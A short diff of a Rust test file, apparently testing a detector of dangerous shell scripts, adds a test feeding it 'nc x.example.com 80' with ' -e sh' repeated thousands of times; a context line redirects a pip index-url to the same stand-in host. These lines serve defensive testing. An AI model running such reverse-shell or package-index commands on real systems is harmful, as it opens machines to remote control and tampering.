@@ -51,6 +51,12 @@ fn executed(script: &str, name: &str) -> bool {
 }
 
 #[test]
+fn of_many_interpreters_of_one_command_a_few_words_are_looked_at() {
+    let script = format!("nc x.example.com 80{}", " -e sh".repeat(9_000));
+    assert!(executed(&script, HOST_DATA));
+}
+
+#[test]
 fn many_written_files_are_looked_at_once() {
     for start in [
         "echo index-url = http://x.example.com | tee",
